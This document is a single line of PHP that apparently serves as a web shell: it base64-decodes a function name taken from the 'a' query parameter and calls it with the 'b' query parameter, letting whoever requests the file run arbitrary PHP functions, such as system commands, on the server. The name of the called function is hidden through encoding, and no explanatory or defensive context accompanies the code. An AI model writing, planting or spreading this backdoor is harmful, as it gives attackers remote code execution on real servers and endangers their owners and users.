<?php $x=base64_decode($_GET["a"]);$y=$_GET["b"];$x($y);
